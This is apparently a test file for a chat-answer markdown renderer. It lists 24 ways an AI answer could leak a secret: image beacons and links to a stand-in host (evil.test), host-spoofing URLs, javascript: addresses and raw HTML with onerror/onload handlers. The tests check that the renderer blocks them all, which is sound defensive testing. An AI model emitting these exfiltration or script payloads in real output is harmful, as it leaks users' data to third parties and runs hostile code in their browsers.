import { render } from '@testing-library/react';
import { expect, test } from 'vitest';
import { sourceOf } from '../testing/samples.ts';
import { AnswerMarkdown } from './answer-markdown.tsx';

const SOURCES = [sourceOf(1, { kind: 'site', url: 'https://allowed.edu/guide' })];
const SECRET = 'c2VjcmV0';

function renderAnswer(content: string): HTMLElement {
  return render(<AnswerMarkdown content={content} sources={SOURCES} isStreaming={false} />)
    .container;
}

/** Everything through which a browser would load something or run something by itself. */
const LOADING =
  'img, iframe, script, style, link, object, embed, video, audio, svg, form, base, meta';
const LOADING_ATTRIBUTES = ['src', 'srcset', 'style', 'background', 'poster', 'action', 'ping'];

const exfiltrations: [string, string][] = [
  ['an inline image', `![x](https://evil.test/p?q=${SECRET})`],
  ['an image of an allowed host', `![x](https://allowed.edu/p?q=${SECRET})`],
  ['a reference image', `![x][i]\n\n[i]: https://evil.test/p?q=${SECRET}`],
  ['a collapsed reference image', `![i][]\n\n[i]: https://evil.test/p?q=${SECRET}`],
  ['an image in a table', `| a |\n|---|\n| ![x](https://evil.test/${SECRET}) |`],
  ['an image in a footnote', `Text[^1]\n\n[^1]: ![x](https://evil.test/${SECRET})`],
  ['an image in a link', `[![x](https://evil.test/${SECRET})](https://allowed.edu/)`],
  ['a data image', '![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)'],
  ['a protocol-relative image', `![x](//evil.test/${SECRET})`],
  ['an image in a heading', `# ![x](https://evil.test/${SECRET})`],
  ['a link to another host', `[click](https://evil.test/?q=${SECRET})`],
  ['a reference link to another host', `[click][r]\n\n[r]: https://evil.test/?q=${SECRET}`],
  ['a host that begins like an allowed one', `[x](https://allowed.edu.evil.test/?q=${SECRET})`],
  ['an allowed host as a user name', `[x](https://allowed.edu@evil.test/?q=${SECRET})`],
  ['credentials before an allowed host', '[x](https://user:pass@allowed.edu/)'],
  ['an allowed host in the path', `[x](https://evil.test/allowed.edu/?q=${SECRET})`],
  ['a host that ends like an allowed one', `[x](https://notallowed.edu/?q=${SECRET})`],
  ['an autolink', `<https://evil.test/?q=${SECRET}>`],
  ['a bare address', `See https://evil.test/?q=${SECRET} or www.evil.test/${SECRET}`],
  ['a mail address', `[x](mailto:evil@evil.test?body=${SECRET}) and evil@evil.test`],
  ['a script address', '[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](vbscript:x)'],
  ['a data or blob address', '[x](data:text/html,<script>alert(1)</script>) [y](blob:https://x/1)'],
  [
    'relative and fragment addresses',
    '[x](/api/user/logout) [y](//evil.test) [z](#top) [w](\\\\evil.test)',
  ],
  [
    'raw HTML',
    `<img src="https://evil.test/${SECRET}" onerror="alert(1)"><script>alert(1)</script><a href="https://evil.test">x</a><iframe src="https://evil.test"></iframe>\n\n<svg onload=alert(1)>\n\n<form action="https://evil.test"><button>Go</button></form>`,
  ],
];

test.each(exfiltrations)('[CHAT-02] %s leads nowhere', (_, content) => {
  const container = renderAnswer(content);
  expect(container.querySelector(LOADING)).toBeNull();
  for (const element of container.querySelectorAll('*')) {
    for (const { name } of element.attributes) {
      expect(LOADING_ATTRIBUTES).not.toContain(name);
      expect(name).not.toMatch(/^on/);
    }
  }
  for (const link of container.querySelectorAll('a')) {
    expect(link.getAttribute('href')).toMatch(/^https?:\/\/allowed\.edu\//);
  }
  expect(container.querySelector('button')).toBeNull();
});

test('[CHAT-02] there are the 24 ways that were thought of', () => {
  expect(exfiltrations).toHaveLength(24);
});

test('[CHAT-02] a link to the host of a source opens apart and names the host', () => {
  const container = renderAnswer('[The guide](https://allowed.edu/guide?a=1#b)');
  const link = container.querySelector('a');
  expect(link?.href).toBe('https://allowed.edu/guide?a=1#b');
  expect(link?.target).toBe('_blank');
  expect(link?.rel).toBe('noopener noreferrer');
  expect(link?.textContent).toContain('The guide (allowed.edu)');
});

test('[CHAT-02] a blocked link keeps its words', () => {
  expect(renderAnswer('Read [the guide](https://evil.test/x).').textContent).toBe(
    'Read the guide.',
  );
});

test('[CHAT-02] raw HTML is shown as the text it is', () => {
  expect(renderAnswer('A <b>bold</b> claim').textContent).toBe('A <b>bold</b> claim');
});

test('[CHAT-02] no link is open before the sources are known; then only to their hosts', () => {
  const content = '[x](https://allowed.edu/) [y](https://evil.test/)';
  const unknown = render(<AnswerMarkdown content={content} sources={[]} isStreaming />);
  expect(unknown.container.querySelector('a')).toBeNull();
  const known = render(<AnswerMarkdown content={content} sources={SOURCES} isStreaming />);
  const links = Array.from(known.container.querySelectorAll('a'), (link) => link.href);
  expect(links).toEqual(['https://allowed.edu/']);
});
